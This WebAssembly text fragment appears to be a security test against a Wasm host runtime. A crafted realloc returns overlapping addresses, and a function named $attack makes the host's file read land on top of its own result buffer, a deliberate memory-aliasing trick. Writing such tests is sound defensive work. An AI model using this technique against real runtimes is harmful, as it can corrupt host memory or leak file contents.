;; Has the host write what it read over the place where the result goes.
(global $calls (mut i32) (i32.const 0))
(func $realloc (param $old i32) (param $size i32) (param $align i32) (param $new i32) (result i32)
  ;; The script and its arguments come first.
  (global.set $calls (i32.add (global.get $calls) (i32.const 1)))
  (if (i32.le_u (global.get $calls) (i32.const 2))
    (then (return (i32.mul (global.get $calls) (i32.const 0x10000)))))
  (i32.const 4096))
(func $attack (param $source i32) (param $length i32)
  (call $file.read (call $open (local.get $source) (local.get $length)) (i32.const 0) (i32.const 4096)))
